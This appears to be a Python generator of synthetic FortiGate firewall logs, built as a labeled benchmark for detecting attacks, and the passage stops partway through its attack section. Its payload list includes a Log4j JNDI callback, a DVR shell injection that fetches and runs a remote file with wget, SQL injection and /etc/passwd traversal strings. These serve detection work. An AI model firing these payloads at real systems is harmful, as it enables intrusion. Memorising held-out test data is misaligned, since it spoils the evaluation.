"""FortiGate lines (traffic, web filter, names, intrusion prevention, system, VPN) of an office and a branch.

Daily work: browsing, servers, administrators, backups, what the internet tries, names asked for, false alarms, VPN, changes. Attacks:
guessed VPN passwords until one fits, movement and scans inside, beacons, data sent out, known holes, and the firewall's own accounts. It
is not training material: it was written by a hand that did not know the training scenarios, and its events are not looked at by whoever
decides on rules, scenarios or features.
"""
from __future__ import annotations

from typing import Optional

from .people import BROWSERS, FIRST_NAMES, LAST_NAMES
from .site import Renumber, Site, epoch, utc

START = epoch(2023, 3, 6)
DAYS = 5
DEVICES = [("FGT-HQ-A", "FG200FT921901234", "root"), ("FGT-BR-07", "FGT60FTK2109876X", "root")]
SERVERS = dict(dc1="192.168.1.5", dc2="192.168.1.6", fs="192.168.1.12", nas="192.168.1.13", sql="192.168.1.20", esx="192.168.1.31",
               vc="192.168.1.30", web="172.20.0.10", mail="172.20.0.25", bk="192.168.1.50", mgmt="192.168.1.100", cam="192.168.40.12",
               prn="192.168.10.250")


def key_values(fields):
    return " ".join("{}={}".format(key, f"\"{value}\"" if isinstance(value, str) and key not in ("date", "time", "date", "srcip",
        "dstip", "eventtime", "transip", "remip", "tunnelip", "msgx", "assignip", "stat") else value) for key, value in fields)


def interfaces(address: str):
    return ("lan", "lan") if address.startswith(("192.168.10", "192.168.20")) else ("srv",
        "lan") if address.startswith("192.168.1.") else ("dmz", "dmz") if address.startswith("172.20") else ("iot",
        "undefined") if address.startswith("192.168.40") else ("ssl.root", "undefined") if address.startswith("10.212.") else ("wan1",
        "wan")


SERVICES = {443: "HTTPS", 80: "HTTP", 53: "DNS", 22: "SSH", 3389: "RDP", 445: "SMB", 389: "LDAP", 88: "KERBEROS", 123: "NTP",
            25: "SMTP", 161: "SNMP", 135: "DCE-RPC", 21: "FTP", 5985: "tcp/5985", 993: "IMAPS"}
SITES = [("teams.microsoft.com", "Microsoft.Teams", "Collaboration"), ("outlook.office365.com", "Microsoft.Outlook.Office.365",
    "Email"), ("www.google.de", "Google.Services", "General.Interest"), ("edge.microsoft.com", "Microsoft.Portal", "Web.Client"),
         ("www.youtube.com", "YouTube", "Video/Audio"), ("api.whatsapp.com", "WhatsApp", "Collaboration"),
         ("drive.google.com", "Google.Drive", "Storage.Backup"), ("www.dropbox.com", "Dropbox", "Storage.Backup"),
         ("zoom.us", "Zoom", "Collaboration"), ("www.spiegel.de", "HTTPS.BROWSER", "Web.Client"), ("ads.pubmatic.com", "HTTPS.BROWSER",
    "Web.Client"), ("teamviewer.com", "TeamViewer", "Remote.Access"), ("anydesk.com", "AnyDesk", "Remote.Access"),
         ("windowsupdate.com", "MS.Windows.Update", "Update"), ("ocsp.sectigo.com", "OCSP", "Network.Service"),
         ("shop.conrad.de", "HTTPS.BROWSER", "Web.Client"), ("github.com", "GitHub", "Business"), ("mega.nz", "MEGA", "Storage.Backup"),
         ("chat.openai.com", "ChatGPT", "General.Interest"), ("telegram.org", "Telegram", "Collaboration")]
SITE_WEIGHTS = [12, 12, 10, 4, 5, 4, 2, 2, 5, 5, 5, 1, 0.4, 5, 4, 3, 2, 0.4, 3, 1]


def day_hour(day, hour):
    return START + day * 86400 + hour * 3600


CONTROL = ["5.188.86.41", "91.92.243.17", "159.89.104.6"]
EXPLOITS = [("Apache.Log4j.Error.Log.Remote.Code.Execution", 51006, "critical",
             "/?x=${jndi:ldap://159.89.104.6:1389/Basic/Command/Base64/d2hvYW1p}"), ("PHPUnit.Eval-stdin.PHP.Remote.Code.Execution",
    45765, "critical", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), ("HTTP.URI.SQL.Injection", 15621, "medium",
    "/katalog.php?id=12%20UNION%20SELECT%201,user(),3--"), ("Generic.Path.Traversal.Detection", 47345, "medium",
    "/download?f=..%2f..%2f..%2fetc%2fpasswd"), ("Fortinet.FortiOS.SSL.VPN.Web.Portal.Pathname.Information.Disclosure", 48321, "high",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"), ("MS.Exchange.Server.UM.Core.Remote.Code.Execution",
    49999, "critical", "/ecp/DDI/DDIService.svc/GetList"), ("PHP.CGI.Argument.Injection", 31752, "high",
    "/index.php?-d+allow_url_include%3dOn"), ("Zgrab.Scanner", 49200, "low", "/"),
            ("JAWS.DVR.CCTV.Shell.Unauthenticated.Command.Execution", 47797, "critical",
             "/shell?cd+/tmp;rm+-rf+*;wget+http://5.188.86.41/jaws;sh+/tmp/jaws"), ("Web.Server.ETC.Passwd.Access", 13144, "medium",
    "/cgi-bin/.%2e/%2e%2e/etc/passwd")]


class FortigateOffice(Site):
    """FortiGates of an office and a branch."""

    name = "fortigate_office"
    host = "FGT-HQ-A"
    sourcetype = "fgt_log"
    seed = 1818
    renumbered = (Renumber(pattern=r"( sessionid=)(\d+)( )", start=48112233, step=60),)

    def build(self) -> None:
        self.prepare()
        self.traffic_of_people()
        self.administrators_and_backups()
        self.from_outside()
        self.utm()
        self.vpn_daily()
        self.firewall_itself()
        self.attacks()
        self.beacons_and_holes()
        self.taken_over()
        self.thin(attacks=0.45)

    def line(self, at: float, log_id, kind, sub, level, rest, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
             device: int = 0, event=None) -> None:
        moment = utc(at)
        names = DEVICES[device]
        head = [("date", moment.strftime("%Y-%m-%d")), ("time", moment.strftime("%H:%M:%S")), ("devname", names[0]),
                ("devid", names[1]), ("eventtime", str(int(at * 1000000000.0))), ("tz", "+0100"), ("logid", log_id), ("type", kind),
                ("subtype", sub)] + ([("eventtype", event)] if event else []) + [("level", level), ("vd", "root")]
        self.add(at, f"<{self.rng.choice([189, 189, 190, 188] if level in ('notice', 'information') else [188, 187, 185])}>"
                 + key_values(head + rest), label, group, technique, names[0])

    def geo(self, address: str):
        if address.startswith(("192.168.", "172.20", "10.")):
            return "Reserved"
        return self.countries.setdefault(address, self.rng.choices(["United States", "Germany", "Netherlands", "Ireland", "France",
            "China", "Russian Federation", "Poland", "Bulgaria", "India", "Brazil"], [28, 15, 8, 8, 5, 4, 2, 3, 1, 2, 2])[0])

    def traffic(self, at: float, source, destination, port, action: str = "close", policy: int = 3, app=None, cat=None,
                user: Optional[str] = None, sizes=None, protocol: int = 6, seconds=None, label: int = 0, group: Optional[str] = None,
                technique: Optional[str] = None, device: int = 0, risk=None) -> None:
        self.session += self.rng.randint(1, 90)
        sent, received = sizes or (int(self.rng.lognormvariate(7.3, 1.2)), int(self.rng.lognormvariate(8.8, 1.7)))
        if action == "deny":
            sent = received = 0 if self.rng.random() < 0.5 else 0
        inside, outside = (interfaces(source), interfaces(destination))
        seconds = seconds if seconds is not None else 0 if action == "deny" else int(self.rng.lognormvariate(3, 1.5))
        pairs = [("srcip", source)] + ([("srcname", self.host_names[user])] if user
                                       else []) + [("srcport", self.rng.randint(49152, 65535) if inside[0] != "wan1"
            else self.rng.randint(1024, 65000)), ("srcintf", inside[0]), ("srcintfrole", inside[1]), ("dstip", destination),
            ("dstport", port), ("dstintf", outside[0]), ("dstintfrole", outside[1])]
        pairs += [("srccountry", self.geo(source)), ("dstcountry", self.geo(destination)), ("sessionid", self.session),
                  ("proto", protocol), ("action", action), ("policyid", 0 if action == "deny" else policy),
                  ("policytype", "policy" if destination not in ("198.51.100.34",) else "local-in-policy")]
        if action != "deny":
            pairs += [("poluuid", self.policies[policy]), ("policyname", {3: "LAN-to-Internet", 7: "LAN-to-Servers", 12: "Servers-out",
                18: "DMZ-in", 21: "SSLVPN-to-LAN", 30: "Backup", 41: "IT-Admin", 44: "Guest-IoT"}[policy])]
        if user and self.rng.random() < 0.8:
            pairs += [("user", user.upper()), ("group", "CORP/DOMAIN USERS"), ("authserver", "FSSO-DC")]
        pairs += [("service", SERVICES.get(port, "{}/{}".format({6: "tcp", 17: "udp"}.get(protocol, "icmp"), port)))]
        if action != "deny" and outside[0] == "wan1":
            pairs += [("trandisp", "snat"), ("transip", "198.51.100.34"), ("transport", self.rng.randint(1024, 65000))]
        else:
            pairs += [("trandisp", "noop")]
        if app:
            pairs += [("appid", 15895 + len(app) * 113), ("app", app), ("appcat", cat or "Network.Service"),
                      ("apprisk", risk or self.weighted({"elevated": 4, "medium": 4, "low": 3, "high": 0.3})), ("applist", "g-default")]
        pairs += [("duration", seconds), ("sentbyte", sent), ("rcvdbyte", received), ("sentpkt", max(1, sent // 400) if sent else 0),
                  ("rcvdpkt", received // 800)]
        if action == "deny":
            pairs += [("crscore", 30), ("craction", 131072), ("crlevel", "high")] if self.rng.random() < 0.7 else []
        if user and action != "deny":
            pairs += [("srchwvendor", self.choice(["Dell", "Lenovo", "HP", "Apple"])),
                      ("osname", self.weighted({"Windows": 8, "macOS": 1})), ("mastersrcmac", self.mac[user]),
                      ("srcmac", self.mac[user]), ("srcserver", 0)]
        self.line(at, "0000000013" if destination != "198.51.100.34" else "0001000014", "traffic",
                  "forward" if destination != "198.51.100.34" else "local", "notice", pairs, label, group, technique, device)

    def web(self, at: float, source, user: str, destination, host: str, url: str, action: str = "passthrough", cat: int = 52,
            category_text: str = "Information Technology", label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
            ref=None, device: int = 0, method: str = "GET", agent: Optional[str] = None, log_id: str = "0317013312",
            event_kind: str = "ftgd_allow", level: str = "notice", dirn: str = "outgoing") -> None:
        self.session += self.rng.randint(1, 90)
        pairs = [("policyid", 3), ("poluuid", self.policies[3]), ("sessionid", self.session)] + ([("user", user.upper()),
            ("group", "CORP/DOMAIN USERS"), ("authserver", "FSSO-DC")] if user else []) + [("srcip", source),
            ("srcport", self.rng.randint(49152, 65535)), ("srccountry", "Reserved"), ("srcintf", interfaces(source)[0]),
            ("srcintfrole", "lan"), ("dstip", destination), ("dstport", 443), ("dstcountry", self.geo(destination)),
            ("dstintf", "wan1"), ("dstintfrole", "wan"), ("proto", 6), ("httpmethod", method), ("service", "HTTPS"), ("hostname", host),
            ("profile", "corp-webfilter")] + ([("agent", agent)] if agent else []) + [("action", action),
            ("reqtype", "referral" if ref else "direct"), ("url", f"https://{host}{url}")] + ([("referralurl", ref)] if ref
            else []) + [("sentbyte", self.rng.randint(200, 4000)), ("rcvdbyte", self.rng.randint(0, 90000)), ("direction", dirn),
                        ("msg", "URL belongs to an allowed category in policy" if action == "passthrough"
                         else "URL belongs to a denied category in policy"), ("method", "domain"), ("cat", cat),
                        ("catdesc", category_text)]
        self.line(at, log_id if action == "passthrough" else "0316013056", "utm", "webfilter", level if action == "passthrough"
                  else "warning", pairs, label, group, technique, device, event=event_kind if action == "passthrough" else "ftgd_blk")

    def name_query(self, at: float, source, user: str, pairs, query_type: str = "A", label: int = 0, group: Optional[str] = None,
                   technique: Optional[str] = None, action: str = "pass", category_text: str = "Information Technology", ipa=None,
                   msg: str = "Domain belongs to an allowed category in policy", code=None) -> None:
        self.session += self.rng.randint(1, 40)
        self.line(at, self.choice(["1501054802"]) if action == "pass" else "1501054803", "utm", "dns", "notice" if action == "pass"
                  else "warning", [("policyid", 12), ("sessionid", self.session), ("srcip", source),
                                   ("srcport", self.rng.randint(49152, 65535)), ("srccountry", "Reserved"),
                                   ("srcintf", interfaces(source)[0]), ("srcintfrole", "lan"),
                                   ("dstip", self.choice(["9.9.9.9", "1.1.1.1", "208.91.112.53"])), ("dstport", 53),
                                   ("dstcountry", "United States"), ("dstintf", "wan1"), ("dstintfrole", "wan"), ("proto", 17),
                                   ("profile", "default"), ("xid", self.rng.randint(1, 65535)), ("qname", pairs), ("qtype", query_type),
                                   ("qtypeval", {"A": 1, "AAAA": 28, "TXT": 16, "PTR": 12, "MX": 15, "HTTPS": 65, "NULL": 10,
            "SRV": 33}[query_type]), ("qclass", "IN")] + ([("ipaddr", ipa or self.address())] if query_type == "A"
            and self.rng.random() < 0.6 else []) + [("msg", msg if action == "pass" else "Domain was blocked by dns botnet C&C"),
            ("action", action), ("cat", 52), ("catdesc", category_text)], label, group, technique,
                  event="dns-response" if self.rng.random() < 0.6 else "dns-query")

    def ips(self, at: float, source, destination, port, attack, aid, severity, action, url: str = "", label: int = 0,
            group: Optional[str] = None, technique: Optional[str] = None, inc: bool = True, user: Optional[str] = None,
            svc: str = "HTTPS") -> None:
        self.session += 9
        self.line(at, "0419016384", "utm", "ips", "alert", [("severity", severity), ("srcip", source), ("srccountry", self.geo(source)),
            ("dstip", destination), ("dstcountry", self.geo(destination)), ("srcintf", interfaces(source)[0]),
            ("srcintfrole", interfaces(source)[1]), ("dstintf", interfaces(destination)[0]),
            ("dstintfrole", interfaces(destination)[1]), ("sessionid", self.session), ("action", action), ("proto", 6),
            ("service", svc), ("policyid", 18 if inc else 7), ("poluuid", self.policies[18 if inc else 7]), ("policytype", "policy"),
            ("attack", attack)] + ([("user", user.upper())] if user else []) + [("srcport", self.rng.randint(1024, 65000)),
            ("dstport", port)] + ([("hostname", "portal.example-ag.de"), ("url", url)] if url
                                  else []) + [("direction", "outgoing" if inc else "incoming"), ("attackid", aid),
                                              ("profile", "high_security"), ("ref", f"http://www.fortinet.com/ids/VID{aid}"),
                                              ("incidentserialno", self.rng.randint(10 ** 7, 2 * 10 ** 8)),
                                              ("msg", f"{self.choice(['web_misc', 'applications3', 'misc'])}: {attack}"),
                                              ("crscore", {"critical": 50, "high": 30, "medium": 10, "low": 5, "info": 0}[severity]),
                                              ("craction", 4096), ("crlevel", severity)], label, group, technique, event="signature")

    def event(self, at: float, log_id, sub, level, desc, rest, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
              device: int = 0) -> None:
        self.line(at, log_id, "event", sub, level, [("logdesc", desc)] + rest, label, group, technique, device)

    def vpn(self, at: float, user: str, address: str, ok, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
            reason=None, tid=None, country: str = "Germany") -> None:
        if ok:
            tid = self.rng.randint(10 ** 8, 2 * 10 ** 9)
            self.event(at, "0101039424", "vpn", "information", "SSL VPN tunnel up", [("action", "tunnel-up"), ("tunneltype", "ssl-web"),
                ("tunnelid", tid), ("remip", address), ("srccountry", country), ("user", user), ("group", "SSLVPN-Users"),
                ("dst_host", "N/A"), ("reason", "login successfully"), ("msg", "SSL tunnel established")], label, group, technique)
            self.event(at + 2, "0101039947", "vpn", "information", "SSL VPN tunnel up",
                       [("action", "tunnel-up"), ("tunneltype", "ssl-tunnel"), ("tunnelid", tid), ("remip", address),
                        ("srccountry", country), ("tunnelip", self.address("10.212.134")), ("user", user), ("group", "SSLVPN-Users"),
                        ("dst_host", "N/A"), ("reason", "tunnel established"), ("msg", "SSL tunnel established")], label, group,
                       technique)
        else:
            self.event(at, "0101039426", "vpn", "alert", "SSL VPN login fail", [("action", "ssl-login-fail"), ("tunneltype", "ssl-web"),
                ("tunnelid", 0), ("remip", address), ("srccountry", country), ("user", user), ("group", "N/A"), ("dst_host", "N/A"),
                ("reason", reason or "sslvpn_login_permission_denied"), ("msg", "SSL user failed to logged in")], label, group,
                       technique)

    def prepare(self) -> None:
        """Who and what is there."""
        self.users = [f"{self.choice(FIRST_NAMES)[0]}{self.choice(LAST_NAMES)}" for _ in range(34)]
        self.mac = {user: ":".join(self.hex(2) for _ in range(6)) for user in self.users}
        self.own_addresses = {user: f"192.168.{self.rng.choice([10, 10, 20])}.{self.rng.randint(20, 230)}" for user in self.users}
        self.host_names = {user: self.choice(["NB-", "PC-", "DESKTOP-"]) + self.key_text(6) for user in self.users}
        self.policies = {3: self.uuid(), 7: self.uuid(), 12: self.uuid(), 18: self.uuid(), 21: self.uuid(), 30: self.uuid(), 0: "",
                         41: self.uuid(), 44: self.uuid()}
        self.session = 48112233
        self.countries = {}
        self.site_addresses = {site[0]: [self.address() for _ in range(3)] for site in SITES}

    def traffic_of_people(self) -> None:
        """Browsing and servers."""
        for _ in range(620):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            site = self.rng.choices(SITES, SITE_WEIGHTS)[0]
            self.traffic(at, self.own_addresses[user], self.choice(self.site_addresses[site[0]]), 443 if self.rng.random() < 0.9
                         else 80, self.weighted({"close": 6, "client-rst": 2, "server-rst": 2, "timeout": 0.6, "ip-conn": 0.1}), 3,
                         site[1], site[2], user, sizes=None if self.rng.random() < 0.95 else (int(self.rng.lognormvariate(16, 1)),
                int(self.rng.lognormvariate(12, 1))), device=int(self.own_addresses[user].startswith("192.168.20")))
        for _ in range(260):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            dice = self.rng.choice([("dc1", 53, 17), ("dc2", 53, 17), ("dc1", 88, 6), ("dc2", 389, 6), ("dc1", 135, 6), ("fs", 445, 6),
                                    ("nas", 445, 6), ("sql", 1433, 6), ("mail", 443, 6), ("prn", 9100, 6), ("dc1", 123, 17),
                                    ("dc1", 445, 6)])
            self.traffic(at, self.own_addresses[user], SERVERS[dice[0]], dice[1], "accept" if dice[2] == 17
                         else self.weighted({"close": 7, "timeout": 1, "client-rst": 1, "server-rst": 1}), 7, None, None, user,
                         protocol=dice[2], sizes=(self.rng.randint(60, 90), self.rng.randint(80, 400)) if dice[2] == 17 else None,
                         seconds=180 if dice[2] == 17 else None)

    def administrators_and_backups(self) -> None:
        """Administrators, and backups at night."""
        ADM = self.users[:3]
        for _ in range(90):
            at = self.moment(START, DAYS)
            user = self.choice(ADM)
            dice = self.rng.choice([("dc1", 3389), ("fs", 3389), ("sql", 3389), ("esx", 443), ("esx", 22), ("vc", 443), ("web", 22),
                                    ("dc1", 5985), ("fs", 445), ("mail", 22), ("nas", 5001), ("dc2", 9389)])
            server = self.rng.choice([self.own_addresses[user], SERVERS["mgmt"]])
            self.traffic(at, server, SERVERS[dice[0]], dice[1], self.weighted({"close": 7, "timeout": 1, "client-rst": 1}), 41,
                         self.choice([None, "RDP", "SSH", "SSL"]), "Remote.Access", user if server != SERVERS["mgmt"] else None,
                         sizes=(int(self.rng.lognormvariate(11, 1.6)), int(self.rng.lognormvariate(12, 1.6))),
                         seconds=self.rng.randint(20, 9000))
        for d in range(DAYS):
            for _ in range(10):
                self.traffic(START + d * 86400 + 23 * 3600 + self.rng.random() * 9000, SERVERS["bk"],
                             SERVERS[self.choice(["fs", "sql", "dc1", "esx", "vc", "nas"])], self.choice([902, 443, 6160, 2049, 445]),
                             "close", 30, sizes=(int(self.rng.lognormvariate(14, 2)), int(self.rng.lognormvariate(21, 1))),
                             seconds=self.rng.randint(100, 8000))
            for _ in range(8):
                self.traffic(START + d * 86400 + 3 * 3600 + self.rng.random() * 900, SERVERS["mgmt"], self.address("192.168.10"),
                             self.choice([22, 80, 135, 161, 445, 3389, 9100]),
                             self.weighted({"close": 2, "timeout": 3, "server-rst": 3}), 41,
                             sizes=(self.rng.randint(44, 300), self.rng.randint(0, 200)), seconds=self.rng.randint(1, 10))

    def from_outside(self) -> None:
        """What the internet tries, and what it may."""
        for _ in range(150):
            at = START + self.rng.random() * DAYS * 86400
            self.traffic(at, self.address(), "198.51.100.34",
                         self.rng.choice([23, 22, 445, 3389, 8080, 5060, 8443, 10443, self.rng.randint(1, 65000),
                                          self.rng.randint(1, 65000)]), "deny", protocol=self.rng.choice([6, 6, 6, 17]))
        for _ in range(130):
            at = self.moment(START, DAYS)
            dice = self.rng.randrange(4)
            if dice == 0:
                self.traffic(at, self.address(), SERVERS["web"], 443, self.weighted({"close": 5, "client-rst": 2, "timeout": 1}), 18,
                             "HTTPS.BROWSER", "Web.Client")
            elif dice == 1:
                self.traffic(at, self.address(), SERVERS["mail"], 25, "close", 18, "SMTP", "Email")
            elif dice == 2:
                self.traffic(at, SERVERS["cam"], self.address(self.choice(["47.91", "120.24", "8.209"])),
                             self.choice([443, 8800, 32100, 123, 53]), self.weighted({"close": 3, "deny": 3, "timeout": 1}), 44, None,
                             protocol=self.choice([6, 17]))
            else:
                self.traffic(at, SERVERS[self.choice(["dc1", "mail", "web", "vc", "esx"])],
                             self.address(self.choice(["20.42", "40.119", "185.125", "151.101", "9.9.9"])),
                             self.choice([443, 80, 123, 53]), "close", 12)

    def utm(self) -> None:
        """Addresses, names and false alarms."""
        for _ in range(250):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            site = self.choice(SITES)
            category = self.weighted([((52, "Information Technology"), 5), ((49, "Business"), 4), ((17, "Advertising"), 3),
                                      ((41, "Search Engines and Portals"), 4), ((25, "Streaming Media and Download"), 2),
                                      ((23, "Web-based Email"), 1), ((24, "File Sharing and Storage"), 1),
                                      ((37, "Social Networking"), 2), ((0, "Unrated"), 1), ((90, "Newly Observed Domain"), 0.7),
                                      ((88, "Dynamic DNS"), 0.2), ((91, "Newly Registered Domain"), 0.3), ((11, "Gambling"), 0.3)])
            site_name = site[0] if self.rng.random() < 0.7 else self.choice([f"{'d' + self.token(13).lower()}.cloudfront.net",
                f"{'o' + self.digits(6)}.sentry.io",
                f"www.{self.choice(LAST_NAMES)}-{self.choice(['bau', 'gmbh', 'shop', 'praxis'])}.de", "vereinsheim.dyndns.org",
                                         f"sync.{self.choice(['adform', 'criteo', 'outbrain'])}.com"])
            self.web(at, self.own_addresses[user], user, self.address(), site_name,
                     self.choice(["/", "/", f"/api/v1/events?sid={self.hex(20)}", "/favicon.ico",
                                  f"/download/{self.choice(['treiber', 'scan', 'katalog'])}.zip",
                                  f"/collect?v=2&tid=G-{self.key_text(10)}", "/login?next=%2Fhome", "/setup_x64.exe"]),
                     self.weighted({"passthrough": 9, "blocked": 1}), *category,
                     agent=self.weighted({None: 5, BROWSERS[4]: 3, "Microsoft-CryptoAPI/10.0": 1}),
                     device=int(self.own_addresses[user].startswith("192.168.20")))
        for _ in range(160):
            at = self.moment(START, DAYS)
            self.name_query(at, SERVERS[self.choice(["dc1", "dc2", "mail", "esx"])], None,
                            self.weighted([(self.choice(SITES)[0], 8),
                                           ("{}.{}.{}.{}.in-addr.arpa".format(*tuple(self.rng.randint(1, 254) for _ in range(4))), 2),
                                           (f"e{self.rng.randint(100, 20000)}.dscb.akamaiedge.net", 3),
                                           (f"_dmarc.{self.choice(LAST_NAMES)}.de", 1),
                                           (f"{self.token(26).lower()}.{self.hex(6)}.avts.mcafee.com", 1),
                                           (f"s{self.digits(3)}._domainkey.{self.choice(LAST_NAMES)}.com", 0.6),
                                           (f"{self.choice(['res-1', 'statics', 'shell'])}.cdn.office.net", 2),
                                           (f"4.{'.'.join(self.hex(1) for _ in range(12))}.ip6.arpa", 0.5)]),
                            self.weighted({"A": 6, "AAAA": 3, "TXT": 1, "PTR": 1, "MX": 0.5, "HTTPS": 2, "SRV": 0.3}))
        for _ in range(22):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            alarm = self.rng.choice([("SSLv3.POODLE.Information.Disclosure", 39294, "low"), ("TCP.Split.Handshake", 26339, "low"),
                                     ("Adobe.Flash.Compressed.Data", 17342, "info"), ("SMB.Login.Brute.Force", 43799, "medium"),
                                     ("HTTP.Unknown.Tunnelling", 107347981, "low"), ("DNS.Invalid.Opcode", 41713, "low")])
            self.ips(at, self.own_addresses[user], SERVERS[self.choice(["fs", "dc1"])], self.choice([445, 443]), alarm[0], alarm[1],
                     alarm[2], "detected", inc=False, user=user, svc="SMB")

    def vpn_daily(self) -> None:
        """VPN."""
        for _ in range(60):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            address = self.address(self.choice(["91.12", "84.171", "79.203", "178.5", "46.114"]))
            for _ in range(self.weighted([(0, 7), (1, 2), (2, 0.6)])):
                self.vpn(at - 30 * (_ + 1),
                         self.weighted([(user, 6), (user.upper(), 1), (user + "1", 0.5), (user + "@example-ag.de", 1)]), address, 0,
                         reason=self.weighted([("sslvpn_login_permission_denied", 5), ("sslvpn_login_unknown_user", 1)]))
            self.vpn(at, user, address, 1)
            if self.rng.random() < 0.5:
                self.traffic(at + 60, self.address("10.212.134"), SERVERS[self.choice(["fs", "mail", "sql"])],
                             self.choice([445, 443, 3389]), "close", 21)
            if self.rng.random() < 0.6:
                self.event(at + self.rng.randint(600, 20000), "0101039948", "vpn", "information", "SSL VPN tunnel down",
                           [("action", "tunnel-down"), ("tunneltype", "ssl-tunnel"),
                            ("tunnelid", self.rng.randint(10 ** 8, 2 * 10 ** 9)), ("remip", address), ("srccountry", "Germany"),
                            ("user", user), ("group", "SSLVPN-Users"), ("dst_host", "N/A"),
                            ("reason", self.choice(["N/A", "User requested termination of service", "idle timeout"])),
                            ("duration", self.rng.randint(300, 30000)), ("sentbyte", self.rng.randint(10 ** 4, 10 ** 9)),
                            ("rcvdbyte", self.rng.randint(10 ** 4, 10 ** 8)), ("msg", "SSL tunnel shutdown")])

    def firewall_itself(self) -> None:
        """What the firewalls say of themselves."""
        for _ in range(170):
            at = self.moment(START, DAYS)
            device = int(self.rng.random() < 0.3)
            dice = self.rng.randrange(9)
            if dice == 0:
                self.event(at, "0100032001", "system", "information", "Admin login successful",
                           [("sn", str(int(at))), ("user", self.choice(["admin", "netz"])),
                            ("ui", self.choice(["https(192.168.1.100)", "ssh(192.168.1.100)", "jsconsole"])), ("method", "https"),
                            ("srcip", "192.168.1.100"), ("dstip", "192.168.1.1"), ("action", "login"), ("status", "success"),
                            ("reason", "none"), ("profile", "super_admin"),
                            ("msg", "Administrator admin logged in successfully from https(192.168.1.100)")], device=device)
            elif dice == 1:
                self.event(at, "0100032002", "system", "alert", "Admin login failed",
                           [("sn", "0"), ("user", self.choice(["admin", "netz", "amdin"])), ("ui", "https(192.168.1.100)"),
                            ("method", "https"), ("srcip", "192.168.1.100"), ("dstip", "192.168.1.1"), ("action", "login"),
                            ("status", "failed"), ("reason", "passwd_invalid"),
                            ("msg", "Administrator admin login failed from https(192.168.1.100) because of invalid password")],
                           device=device)
            elif dice == 2:
                self.event(at, "0100044547", "system", "information", "Object attribute configured",
                           [("user", self.choice(["admin", "netz"])), ("ui", "GUI(192.168.1.100)"),
                            ("action", self.choice(["Add", "Edit", "Edit", "Delete"])), ("cfgtid", self.rng.randint(10 ** 6, 10 ** 8)),
                            ("cfgpath",
                             (change := self.choice(["firewall.address", "firewall.policy", "webfilter.profile", "system.interface",
                    "vpn.ssl.settings", "user.local", "firewall.service.custom", "system.admin"]))),
                            ("cfgobj", self.choice(["12", f"srv-{self.hex(3)}", "port5", "kmueller", "corp-webfilter"])),
                            ("cfgattr", self.choice([f"comment[->CHG-{self.digits(4)}]", "dstaddr[all->m365-grp]",
                    "status[disable->enable]", f"subnet[0.0.0.0 0.0.0.0->192.168.1.{self.rng.randint(2, 99)} 255.255.255.255]"])),
                            ("msg", f"{self.choice(['Edit', 'Add'])} {change}")], device=device)
            elif dice == 3:
                self.event(at, "0100040704", "system", "notice", "System performance statistics",
                           [("action", "perf-stats"), ("cpu", self.rng.randint(1, 40)), ("mem", self.rng.randint(40, 60)),
                            ("totalsession", self.rng.randint(900, 9000)), ("disk", self.rng.randint(1, 30)),
                            ("bandwidth", f"{self.rng.randint(100, 90000)}/{self.rng.randint(100, 90000)}"),
                            ("setuprate", self.rng.randint(4, 80)), ("disklograte", 0), ("fazlograte", self.rng.randint(1, 30)),
                            ("freediskstorage", self.rng.randint(3000, 9000)), ("sysuptime", int(at - START) + 900000),
                            ("waninfo", "N/A"), ("msg", f"Performance statistics: average CPU: {self.rng.randint(1, 40)}"
                    ", memory:  51, concurrent sessions:  2210, setup-rate: 21")], device=device)
            elif dice == 4:
                self.event(at, "0100041000", "system", "notice", "FortiGate update succeeded",
                           [("status", "update"),
                            ("msg", f"Fortigate scheduled update fcni=yes fdni=yes fsci=yes idsdb({self.rng.randint(18, 23)}.00"
                             f"{self.rng.randint(100, 999)})")], device=device)
            elif dice == 5:
                self.event(at, "0101037127", "vpn", "notice", "Progress IPsec phase 1", [("msg", "progress IPsec phase 1"),
                    ("action", "negotiate"), ("remip", "203.0.113.77"), ("locip", "198.51.100.34"), ("remport", 500), ("locport", 500),
                    ("outintf", "wan1"), ("cookies", f"{self.hex(16)}/{self.hex(16)}"), ("user", "N/A"), ("group", "N/A"),
                    ("xauthuser", "N/A"), ("vpntunnel", "BR07"), ("status", self.weighted({"success": 5, "failure": 1})),
                    ("init", "local"), ("mode", "main"), ("dir", "outbound"), ("stage", 1), ("role", "initiator"), ("result", "OK")],
                           device=device)
            elif dice == 6:
                self.event(at, "0100026001", "system", "information", "DHCP Ack log", [("interface", "guest"), ("dhcp_msg", "Ack"),
                    ("mac", ":".join(self.hex_upper(2) for _ in range(6))), ("ip", self.address("192.168.60")), ("lease", 86400),
                    ("hostname", self.choice(["iPhone", "Galaxy-S21", "N/A", "android-" + self.hex(8)])),
                    ("msg", "DHCP server sends a DHCPACK")], device=device)
            elif dice == 7:
                user = self.choice(self.users)
                self.event(at, "0102043014", "user", "notice", "FSSO logon authentication status", [("srcip", self.own_addresses[user]),
                    ("user", user.upper()), ("server", "FSSO-DC"), ("action", "FSSO-logon"),
                    ("msg", f"FSSO-logon event from FSSO-DC: user {user.upper()} logged on {self.own_addresses[user]}")], device=device)
            else:
                self.event(at, "0100032102", "system", "alert", "Configuration changed", [("user", self.choice(["admin", "netz"])),
                    ("ui", "GUI(192.168.1.100)"), ("msg", "Configuration is changed in the admin session")], device=device)

    def attacks(self) -> None:
        """VPN passwords guessed, movement, scans."""
        self.victim_user = self.users[9]
        self.victim = self.own_addresses[self.victim_user]
        self.second_user = self.users[15]
        self.second_victim = self.own_addresses[self.second_user]
        for _ in range(55):
            at = START + self.rng.random() * DAYS * 86400
            self.vpn(at, self.weighted([(self.choice(self.users), 4),
                                        (self.choice(["admin", "test", "vpnuser", "fortinet", "guest", "support", "user1",
                "administrator"]), 5)]), self.address(self.choice(["185.220", "45.227", "193.142", "5.188"])), 0, 1, "vpn_bruteforce",
                     "T1110.003", reason=self.weighted([("sslvpn_login_unknown_user", 5), ("sslvpn_login_permission_denied", 4)]),
